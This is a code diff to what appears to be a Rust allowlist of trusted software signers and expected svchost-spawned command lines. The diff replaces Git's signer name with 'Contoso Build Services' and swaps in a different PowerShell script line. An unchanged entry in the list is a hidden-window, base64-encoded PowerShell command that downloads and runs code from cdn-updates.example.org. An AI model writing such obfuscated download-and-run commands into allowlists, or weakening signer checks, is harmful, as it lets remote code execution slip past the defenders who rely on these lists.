@@ -42,7 +42,7 @@ const GIT: Maker = Maker {
     company: "The Git Development Community",
     product: "Git",
     version: "2.48.1.{release}",
-    signer: Some(["Johannes Schindelin", "Microsoft ID Verified CS EOC CA 01"]),
+    signer: Some(["Contoso Build Services", "Microsoft ID Verified CS EOC CA 01"]),
 };
 const PYTHON: Maker = Maker {
     company: "Python Software Foundation",
@@ -206,7 +206,7 @@ const STARTED: &[Listed] = &[
         System,
         "svchost.exe",
         &[
-            r#"powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command "& {$OutputEncoding = [Console]::OutputEncoding =[System.Text.Encoding]::UTF8;$scriptFileStream = [System.IO.File]::Open('C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\DataCollection\{number}\OpenHandleCollector.ps1', [System.IO.FileMode]::Open, [System.IO.FileAccess]::Read, [System.IO.FileShare]::Read);$calculatedHash = Get-FileHash 'C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\DataCollection\{number}\OpenHandleCollector.ps1' -Algorithm SHA256;if (!($calculatedHash.Hash -eq '{hex}{hex}{hex}{hex}{hex}{hex}{hex}{hex}')) { exit 323;}; . 'C:\ProgramData\OpenHandleCollector.ps1' }""#,
+            r#"powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command "& { $ErrorActionPreference = 'Stop'; [Console]::OutputEncoding = [System.Text.Encoding]::UTF8; $script = 'C:\ProgramData\Contoso\Inventory\{number}\Get-Inventory.ps1'; $hash = (Get-FileHash -LiteralPath $script -Algorithm SHA256).Hash; if ($hash -ne '{hex}{hex}{hex}{hex}{hex}{hex}{hex}{hex}') { throw \"$script is not what was signed\" }; & $script -OutFile \"$env:TEMP\inventory {number}.json\" -Verbose:$false | Out-Null }""#,
             "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHUAcABkAGEAdABlAHMALgBlAHgAYQBtAHAAbABlAC4AbwByAGcALwB7AGgAZQB4AH0AJwApAA==",
         ],
     ),
